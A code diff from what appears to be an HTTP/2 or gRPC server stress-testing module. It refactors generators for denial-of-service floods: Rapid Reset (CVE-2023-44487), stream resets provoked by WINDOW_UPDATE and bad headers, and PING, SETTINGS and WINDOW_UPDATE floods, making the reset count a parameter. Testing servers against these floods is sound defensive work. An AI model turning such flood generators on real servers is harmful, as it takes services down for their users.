@@ -42,7 +42,7 @@ def _once(i: int, first: bytes, rest: bytes) -> bytes:
     return first + rest if i == 0 else rest
 
 
-def rapid_reset(unary: str, body: bytes, amount: int = _MANY) -> Flood:
+def rapid_reset(unary: str, body: bytes, amount: int) -> Flood:
     """Make a flood of whole calls that are cancelled at once (CVE-2023-44487)."""
     block = encode(request_fields(unary))
     return (
@@ -51,13 +51,14 @@ def rapid_reset(unary: str, body: bytes, amount: int = _MANY) -> Flood:
     )
 
 
-def ending(unary: str, duplex: str, body: bytes) -> dict[str, Flood]:
+def ending(unary: str, duplex: str, body: bytes, resets: int = _MANY) -> dict[str, Flood]:
     """Make the floods that end the connection.
 
     Args:
         unary: a method of the server.
         duplex: another one, that waits for its client.
         body: of a call to ``unary``.
+        resets: how many resets there are; those end the connection by their rate.
     """
     streaming = encode(request_fields(duplex))
     fields = [*request_fields(unary), *((b"x-%d" % i, bytes(b"y" * 1000)) for i in range(100))]
@@ -67,14 +68,14 @@ def ending(unary: str, duplex: str, body: bytes) -> dict[str, Flood]:
         return _request(i, streaming)
 
     return {
-        "rapid reset": rapid_reset(unary, body),
-        "rapid reset of streams": (lambda i: opened(i) + rst_stream(2 * i + 1), _MANY),
-        "resets provoked by WINDOW_UPDATE of 0": (lambda i: opened(i) + window_update(2 * i + 1, 0), _MANY),
+        "rapid reset": rapid_reset(unary, body, resets),
+        "rapid reset of streams": (lambda i: opened(i) + rst_stream(2 * i + 1), resets),
+        "resets provoked by WINDOW_UPDATE of 0": (lambda i: opened(i) + window_update(2 * i + 1, 0), resets),
         "resets provoked by window overflow": (
             lambda i: opened(i) + window_update(2 * i + 1, 0x7FFF_FFFF),
-            _MANY,
+            resets,
         ),
-        "resets provoked by bad headers": (lambda i: headers(2 * i + 1, [(b"A", b"b")]), _MANY),
+        "resets provoked by bad headers": (lambda i: headers(2 * i + 1, [(b"A", b"b")]), resets),
         "WINDOW_UPDATE": (lambda _: window_update(0, 1), 300_000),
         "PING": (lambda _: ping(), 100_000),
         "SETTINGS": (lambda i: settings({0x4: 65_535 + i % 2}), 50_000),
